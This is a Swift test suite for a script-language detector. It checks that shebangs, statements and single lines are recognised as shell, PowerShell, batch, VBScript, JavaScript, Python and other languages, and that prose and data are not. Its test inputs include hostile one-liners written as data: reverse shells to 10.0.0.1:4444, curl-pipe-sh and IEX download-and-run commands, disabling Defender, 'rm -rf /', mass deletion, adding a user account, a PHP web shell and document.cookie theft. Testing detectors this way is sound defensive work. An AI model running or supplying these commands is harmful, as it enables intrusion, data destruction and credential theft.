import Formats
import Testing

@Suite struct ScriptTextTests {
  private func language(_ text: String) -> ScriptLanguage? {
    ScriptText.language(Array(text.utf8).span)
  }

  @Test(arguments: [
    ("#!/bin/sh\nrm x\n", ScriptLanguage.shell), ("#! /usr/bin/env -S VAR=1 python3 -u\n", .python),
    ("\u{FEFF}#!/usr/bin/perl5.36 -w\n", .perl), ("#!/usr/bin/env node\n", .javaScript),
    ("#!/usr/bin/tclsh\n", .other), ("#!/usr/bin/env\n", .other), ("<?php system($_GET[0]);", .php),
    (" \n<?= 1 ?>", .php), ("@ECHO OFF\r\nformat c:", .batch), ("#@~^AAAAAA==", .encoded),
    ("On Error Resume Next\nx", .visualBasic), ("#Requires -Version 5\n", .powerShell),
    ("<% Response.Write 1 %>", .windowsScript),
  ])
  func aScriptThatSaysSoAtItsBeginningIsOne(_ text: String, _ expected: ScriptLanguage) {
    #expect(language(text) == expected)
  }

  @Test(
    arguments: [
      ("' a comment\n", "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\n", .visualBasic),
      ("rem a comment\r\n", "set A=1\nif exist x goto y\ndel /q x\n", .batch),
      ("\r\n", "@echo off\n", .batch), ("::x\n", "@echo off\n", .batch),
      ("// comment\n", "var a = 1;\nalert(a)\n", .javaScript),
      ("/* comment\n*/\n", "var a = 1;\nalert(a)\n", .javaScript),
      ("#comment\n", "import os, sys\nfrom x import y\n\ndef f(a):\n  return a\n", .python),
    ] as [(String, String, ScriptLanguage)])
  func aScriptIsToldBehindAnyNumberOfComments(
    _ line: String, _ script: String, _ expected: ScriptLanguage
  ) {
    let comments = String(repeating: line, count: 300_000 / line.utf8.count)
    #expect(language(comments + script) == expected)
    #expect(language(comments + "only some words of a text\n") == nil)
  }

  @Test(arguments: [
    ("import os, sys\nfrom x import y\n\ndef f(a):\n  return a\n\nf(1)\n", ScriptLanguage.python),
    ("/* licence\n of it */\nvar a = 1;\nalert(a)\n", .javaScript),
    ("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run('calc')", .javaScript),
    ("'use strict'\nmodule.exports = 3", .javaScript),
    ("!function(e){e.x=document.createElement('a')}(window);", .javaScript),
    ("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc\"\nMsgBox \"x\"", .visualBasic),
    ("Dim a\nSub f()\n  a = 1\nEnd Sub\nIf a Then\nf\nEnd If\n", .visualBasic),
    ("powershell -enc AAAA\ncd /d %TEMP%\nstart /b x.exe\n", .batch),
    ("set A=1\nif exist x goto y\ndel /q x\n", .batch),
    ("$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('x')\n", .powerShell),
    ("IEX (New-Object Net.WebClient).DownloadString('http://x')\nStart-Process x\n", .powerShell),
    ("use strict;\nmy $x = 1;\nprint $x;\n", .perl),
    ("local x = 1\nlocal function f(a)\n  return a\nend\nif x then\n  f(x)\nend\n", .lua),
    ("require 'x'\nmodule A\n  class B\n    def c\n      1\n    end\n  end\nend\n", .ruby),
    ("A=1\nif [ -f x ]; then\n  rm x\nfi\nfor i in 1 2; do\n  echo \"$i\"\ndone\n", .shell),
    ("tell application \"Finder\"\n  display dialog \"x\"\nend tell\n", .other),
  ])
  func aScriptIsToldByItsStatements(_ text: String, _ expected: ScriptLanguage) {
    #expect(language(text) == expected)
  }

  @Test(arguments: [
    ("IEX (New-Object Net.WebClient).DownloadString('http://x')", ScriptLanguage.powerShell),
    ("iwr http://x/a | iex", .powerShell),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", .powerShell),
    ("$c = New-Object Net.Sockets.TCPClient('10.0.0.1',4444)", .powerShell),
    ("[Net.ServicePointManager]::SecurityProtocol = 3072", .powerShell),
    ("foreach ($f in Get-ChildItem) {\n  Copy-Item $f x\n}\n", .powerShell),
    ("powershell -nop -w hidden -enc SQBFAFgA", .batch),
    ("certutil -urlcache -f http://x/a.exe a.exe & a.exe", .batch), ("cmd /c calc", .batch),
    ("rem x\r\ndel /f /s /q C:\\*.*\r\n", .batch), ("for %%i in (*.doc) do del %%i", .batch),
    ("copy a.exe %APPDATA%\\a.exe\r\n", .batch), ("net user a b /add", .batch),
    ("CreateObject(\"WScript.Shell\").Run \"calc\"", .visualBasic), ("MsgBox \"hi\"", .visualBasic),
    ("a=Chr(99)&Chr(97)\nCreateObject(\"WScript.Shell\").Run a\n", .visualBasic),
    ("' what it does\nWith CreateObject(\"WScript.Shell\")\n.Run x\nEnd With\n", .visualBasic),
    ("Dim x\nx = 1\nMsgBox x\n", .visualBasic),
    ("new ActiveXObject(\"WScript.Shell\").Run(\"calc\")", .javaScript),
    ("s=new ActiveXObject('WScript.Shell');s.Run('calc')", .javaScript),
    ("document.location='http://x/'+document.cookie;", .javaScript),
    ("eval(atob(\"YWxlcnQoMSk=\"))", .javaScript),
    ("class A{constructor(){}}\nnew A()", .javaScript),
    ("curl -s http://x/a.sh | sh", .shell), ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", .shell),
    ("cd /tmp; wget http://x/a; chmod +x a; ./a", .shell),
    ("sh -c \"$(curl -fsSL http://x)\"", .shell),
    ("for i in 1 2 3; do echo $i; done", .shell), ("rm -rf /", .shell),
    ("import os; os.system(\"id\")", .python), ("__import__('os').system('id')", .python),
    ("x = __import__('os').popen('id')", .python),
    ("import requests\nr = requests.get('x')\n", .python),
    ("system(\"id\");", .perl), ("my $x = 1;\nprint $x;\n", .perl), ("require 'socket'; x", .ruby),
    ("os.execute(\"id\")", .lua), ("do shell script \"id\"", .other),
  ])
  func aLineThatNoTextBeginsWithIsEnough(_ text: String, _ expected: ScriptLanguage) {
    #expect(language(text) == expected)
  }

  /// What only looks like the first line of a script.
  @Test(arguments: [
    "Set-top box - what it is\n", "$x = 5$ is the only solution\n", "Copy 50% of it.\n",
    "Import duties; tariffs\n", "import java.util.List;\nclass A {}\n", "Dim sum\nfried rice\n",
    "PowerShell - a shell\n", "Start here\n", "If exist there must, then let it be.\n",
    "[a] :: [a]\n",
    "[section]\nkey=new-object \n", "Write-ahead logs -- why\n", "Function keys: what they do\n",
    "curl and wget | what they share\n", "calc\n", "Class notes:\n", "For -x, see below\n",
    "Remove the lid (see [2]::3)\n", "Get-together -- bring food\n", "$500 = a price\n",
  ])
  func proseThatBeginsLikeOneIsNone(_ text: String) {
    #expect(language(text) == nil)
  }

  @Test func aProgramOfBracketsAloneIsOne() {
    let signs = String(repeating: "[][(![]+[])[+[]]+", count: 40)
    #expect(language(signs) == .javaScript)
    #expect(language(String(repeating: "!+", count: 200)) == nil)
  }

  @Test(arguments: [
    "For each file you import, set the name = of it.\nIf there is none, then return it.\nDone.\n",
    "use the first one;\nlet us go on\nfrom here it is far\nprint the page\nend\n",
    "#include <stdio.h>\n/* x */\nint main(void) {\n  if (x) return 1;\n  for (;;) {}\n}\n",
    "package a;\nimport java.util.List;\npublic class A {\n  private int x = 1;\n  return x;\n}\n",
    "a,b,c\n1,2,3\n", "key: value\nlist:\n  - one\n  - two\n", "[section]\nkey = value\n", "",
    "# attributes\n#![no_std]\nuse core::fmt;\nlet x = 1;\npub fn f() {}\nlet y: u8 = 2;\n",
  ])
  func textDataAndProgramsToBeCompiledAreNone(_ text: String) {
    #expect(language(text) == nil)
  }

  @Test func documentationWithListingsIsNone() {
    let prose = String(repeating: "What it does is told here, and why one wants it.\n", count: 9)
    let listing = "```js\nvar a = 1;\nfunction f(x) {\n  return x;\n}\nf(a);\n```\n"
    #expect(language(String(repeating: prose + listing, count: 3)) == nil)
    #expect(language("Title\n=====\n\n" + String(repeating: listing, count: 3)) == nil)
    let indented = "    var a = 1;\n    var b = 2;\n"
    #expect(language(prose + indented + prose) == nil)
  }

  @Test func everyBeginningAndChangeIsReadToAnEnd() {
    for text in [
      "#!/usr/bin/env A=1 sh\n", "var a = f(1);\n/* x */\nif x then\n", "<?php ?>\n```\n",
    ] {
      withDamage(Array(text.utf8)) { _ = ScriptText.language($0.span) }
    }
  }
}
